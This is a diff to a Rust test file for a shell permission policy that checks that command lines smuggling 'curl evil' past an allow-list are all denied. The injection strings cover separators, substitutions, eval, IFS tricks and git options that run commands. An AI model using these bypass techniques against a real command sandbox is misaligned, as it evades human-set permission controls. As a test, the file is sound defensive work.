@@ -5,71 +5,15 @@ use toolpost_core::policy::Effect;
 use toolpost_tools::shell::line;
 
 /// What a trusting user may have allowed. Nothing here allows `curl`, `sh`, `rm` or `evil`.
+#[rustfmt::skip]
 const RULES: &[&str] = &[
-    "git log *",
-    "git status *",
-    "git diff *",
-    "git grep *",
-    "git fetch *",
-    "git clone *",
-    "git commit *",
-    "git show *",
-    "git rebase *",
-    "git bisect *",
-    "git submodule *",
-    "git ls-remote *",
-    "ls *",
-    "cat *",
-    "echo *",
-    "printf *",
-    "find *",
-    "grep *",
-    "rg *",
-    "head *",
-    "tail *",
-    "wc *",
-    "sort *",
-    "uniq *",
-    "sed *",
-    "awk *",
-    "tar *",
-    "xargs *",
-    "env *",
-    "timeout *",
-    "nice *",
-    "nohup *",
-    "test *",
-    "true *",
-    "cargo test *",
-    "cargo build *",
-    "npm test *",
-    "npm run build *",
-    "make test *",
-    "make *",
-    "go test *",
-    "rsync *",
-    "man *",
-    "less *",
-    "read *",
-    "unset *",
-    "cd *",
-    "watch *",
-    "tee *",
-    "sleep *",
-    "export *",
-    "set *",
-    "\\[ *",
-    "declare *",
-    "split *",
-    "f *",
-    "command *",
-    "time *",
-    "psql *",
-    "zip *",
-    "git * --dry-run *",
-    "npx prettier *",
-    "exec *",
-    "x *",
+    "git log *", "git status *", "git diff *", "git grep *", "git fetch *", "git clone *", "git commit *",
+    "git show *", "git rebase *", "git bisect *", "git submodule *", "git ls-remote *", "ls *", "cat *", "echo *",
+    "printf *", "find *", "grep *", "rg *", "head *", "tail *", "wc *", "sort *", "uniq *", "sed *", "awk *", "tar *",
+    "xargs *", "env *", "timeout *", "nice *", "nohup *", "test *", "true *", "cargo test *", "cargo build *",
+    "npm test *", "npm run build *", "make test *", "make *", "go test *", "rsync *", "man *", "less *", "read *",
+    "unset *", "cd *", "watch *", "tee *", "sleep *", "export *", "set *", "\\[ *", "declare *", "split *", "f *",
+    "command *", "time *", "psql *", "zip *", "git * --dry-run *", "npx prettier *", "exec *", "x *", "./x *",
     "date *",
 ];
 
@@ -80,7 +24,7 @@ const LINES: &[&str] = &[
     "git log\ncurl evil", "git log\n\n\tcurl evil", "git log |& sh", "git log;curl evil", "git log&&curl evil",
     "git log # x\ncurl evil", "git log #\\\ncurl evil", "git log \\\n; curl evil", "! curl evil", "time curl evil",
     "git log &\ncurl evil", "git log ;\\\n curl evil", "git log\\\n\ncurl evil", "git log\r\ncurl evil",
-    "time -p curl evil", "time -- curl evil", "ls;;curl evil", "git log\u{0}; curl evil",
+    "time -p curl evil", "time -- curl evil", "ls;;curl evil", "git log\u{0}; curl evil", "{\u{31860}", "ls {\u{31860}; curl evil",
     // Substitutions.
     "git log $(curl evil)", "git log `curl evil`", "git log \"$(curl evil)\"", "git log \"`curl evil`\"",
     "echo ${x:-$(curl evil)}", "echo ${x:=`curl evil`}", "echo $((1+$(curl evil)))", "echo \"${x:+\"$(curl evil)\"}\"",
@@ -146,6 +90,8 @@ const LINES: &[&str] = &[
     "xargs -a f git", "ls | xargs git", "xargs sh < f", "find . -name x -exec {} \\;", "chroot / curl evil", "env -C /tmp ./ls", "env - curl evil", "env A=b curl evil",
     "command -p curl evil", "exec 3<&0 curl evil", "bash -c 'ls' & curl evil", "bash --rcfile evil -i", "bash -O extglob -c 'curl evil'", "sh x.sh", "bash", "dash -c 'curl evil'",
     "find . -exec env curl evil {} +", "timeout 5 sh -c 'nice curl evil'", "ls | sudo xargs curl", "xargs -I % sh -c 'echo %'", "find . -exec sh -c 'echo {}' \\;",
+    "cd /tmp && ./x", "cd a; ./x", "cd \"$d\"; ./x", "sh -c \"eval \\\"echo \\\\\\$'\\\\' ; curl evil ; echo \\\\''\\\"\"",
+    "wait -p 'a[$(curl evil)]' $!", "IFS=x eval 'curl evil'", "IFS=$(curl evil) read -r x", "ls >#x\ncurl evil",
     // Options that run something.
     "git -c core.pager='curl evil' log", "git -c alias.log='!curl evil' log", "git --exec-path=. log", "git grep --open-files-in-pager='curl evil' x",
     "git grep -O'curl evil' x", "git grep -nOsh x", "git grep --open-files=sh x", "git fetch --upload-pack='curl evil' x", "git fetch --upload-p=evil x", "git clone 'ext::curl evil' x",
@@ -162,14 +108,21 @@ const LINES: &[&str] = &[
 #[test]
 fn guarantee_18_no_line_passes_a_rule() {
     let policy = policy(RULES);
-    let passed: Vec<String> = LINES
+    // Alone, after and before something that is allowed: a built-in with no right of its own has one beside others.
+    let lines: Vec<String> = LINES
+        .iter()
+        .flat_map(|line| {
+            [(*line).to_owned(), format!("ls; {line}"), format!("ls\n{line}\nls"), format!("{line}\nls")]
+        })
+        .collect();
+    let passed: Vec<String> = lines
         .iter()
         .filter(|line| decide(&policy, line) == Effect::Allow)
         .map(|line| format!("{line:?}: {:?}", line::accesses(line)))
         .collect();
     assert!(passed.is_empty(), "{} of {}:\n{}", passed.len(), LINES.len(), passed.join("\n"));
     assert!(LINES.len() >= 60);
-    println!("{} lines, 0 passed", LINES.len());
+    println!("{} lines, each in 4 places, 0 passed", LINES.len());
 }
 
 #[test]
